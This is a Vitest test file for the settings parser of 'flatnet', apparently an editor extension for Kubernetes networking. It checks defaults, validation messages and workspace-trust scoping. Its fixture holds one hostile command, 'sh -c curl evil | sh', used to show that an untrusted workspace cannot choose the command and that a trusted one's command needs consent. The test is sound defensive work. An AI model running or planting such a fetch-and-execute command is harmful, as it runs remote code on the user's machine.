import { describe, expect, it } from "vitest";
import { type InspectedSetting, parseSettings, scopeSettings } from "./settings.ts";

describe("parseSettings", () => {
  it("uses defaults when nothing is set", () => {
    const { settings, problems } = parseSettings(() => undefined);
    expect(problems).toEqual([]);
    expect(settings).toEqual({
      kubeconfig: [],
      contexts: [],
      "kubernetes.enabled": true,
      agentLabelSelector: "app.kubernetes.io/name=flatnet",
      "lab.enabled": true,
      "lab.stateDir": "/run/flatnet/lab",
      "lab.prefix": "fn-",
      fixture: "",
      cli: ["flatnet"],
      "probe.args": ["check", "--ndjson"],
      "probe.replay": "",
      refreshDebounceMs: 250,
    });
  });

  it.each([
    ["refreshDebounceMs", -1, 'flatnet.refreshDebounceMs: -1 Too small: expected number to be >=0; using the default'],
    ["refreshDebounceMs", 1.5, 'flatnet.refreshDebounceMs: 1.5 Invalid input: expected int, received number; using the default'],
    ["lab.prefix", "FN_", 'flatnet.lab.prefix: "FN_" must start with a lower-case letter, use only a-z, 0-9 and "-", end with "-" and be at most 13 characters; using the default'],
    ["cli", [], 'flatnet.cli: [] must name the flatnet command, e.g. ["flatnet"]; using the default'],
    ["agentLabelSelector", "app in (a,b)", 'flatnet.agentLabelSelector: "app in (a,b)" must be key=value terms joined by commas; using the default'],
    ["kubeconfig", "/home/me/.kube/config", 'flatnet.kubeconfig: "/home/me/.kube/config" Invalid input: expected array, received string; using the default'],
  ])("rejects %s = %j by name and keeps the rest", (key, value, message) => {
    const { settings, problems } = parseSettings((k) => (k === key ? value : k === "lab.stateDir" ? "/tmp/lab" : undefined));
    expect(problems).toEqual([message]);
    expect(settings["lab.stateDir"]).toBe("/tmp/lab");
  });

  it("accepts valid values", () => {
    const { settings, problems } = parseSettings((k) => ({ cli: ["npx", "flatnet"], agentLabelSelector: "app=flatnet, tier=node", refreshDebounceMs: 0 })[k]);
    expect(problems).toEqual([]);
    expect(settings.cli).toEqual(["npx", "flatnet"]);
    expect(settings.refreshDebounceMs).toBe(0);
  });

  it("ignores the removed flatnet.probe.labArgs: a lab runs flatnet.probe.args", () => {
    const { settings, problems } = parseSettings((k) => ({ "probe.labArgs": ["lab", "check", "--json"] })[k]);
    expect(problems).toEqual([]);
    expect(Object.keys(settings)).not.toContain("probe.labArgs");
    expect(settings["probe.args"]).toEqual(["check", "--ndjson"]);
  });
});

describe("scopeSettings", () => {
  const inspected: Record<string, InspectedSetting> = {
    cli: { globalValue: ["flatnet"], workspaceValue: ["sh", "-c", "curl evil | sh"] },
    kubeconfig: { globalValue: ["/home/me/.kube/config"], workspaceFolderValue: ["/ws/kubeconfig"] },
    "lab.stateDir": { globalValue: "/run/flatnet/lab", workspaceValue: "/tmp/lab" },
    "probe.args": { globalValue: ["check", "--ndjson"] },
  };
  const inspect = (key: string) => inspected[key];

  it("an untrusted workspace cannot choose the command, its arguments or the kubeconfig; other settings apply", () => {
    const { read, workspaceCommand } = scopeSettings(inspect, false);
    expect([read("cli"), read("kubeconfig"), read("lab.stateDir"), read("probe.args")]).toEqual([["flatnet"], ["/home/me/.kube/config"], "/tmp/lab", ["check", "--ndjson"]]);
    expect(workspaceCommand).toBeUndefined();
  });

  it("a trusted workspace's values apply, folder before workspace, and its command is named for consent", () => {
    const { read, workspaceCommand } = scopeSettings(inspect, true);
    expect([read("cli"), read("kubeconfig"), read("lab.stateDir")]).toEqual([["sh", "-c", "curl evil | sh"], ["/ws/kubeconfig"], "/tmp/lab"]);
    expect(workspaceCommand).toBe('{"cli":["sh","-c","curl evil | sh"]}');
  });

  it("user settings alone need no consent", () => {
    expect(scopeSettings((key) => ({ globalValue: inspected[key]?.globalValue }), true).workspaceCommand).toBeUndefined();
  });
});
